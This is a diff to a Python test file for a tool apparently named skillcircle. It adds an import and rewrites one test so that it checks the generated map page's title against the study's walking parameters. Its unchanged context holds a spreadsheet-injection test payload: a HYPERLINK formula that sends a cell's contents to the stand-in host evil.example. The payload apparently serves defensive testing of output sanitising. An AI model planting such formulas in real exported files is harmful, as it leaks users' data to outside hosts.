@@ -20,6 +20,7 @@ import pytest
 from skillcircle import cli
 from skillcircle.outputs import publish as publish_module
 from skillcircle.outputs.folder import MANIFEST
+from skillcircle.outputs.webmap import map_titles
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -91,9 +92,13 @@ def test_a_users_file_under_an_output_name_is_never_replaced(study, tmp_path, ca
     assert code == 0, err
     assert (out / "report.md").read_text(encoding="utf-8").startswith("# ")
     assert (out / "notes.txt").read_text(encoding="utf-8") == "my notes"
-    # staged, but the map is titled after the planner's folder, never the staging folder
+    # staged, but the map is titled after the study (its districts, walk and speed), never
+    # after the staging folder
     page = (out / "map.html").read_text(encoding="utf-8")
-    assert "skillcircle · out" in page
+    title, subtitle = map_titles(out)
+    assert subtitle is not None
+    assert " 分钟步行 · " in title
+    assert f"<title>{title}</title>" in page
     assert "staging" not in page
 
 
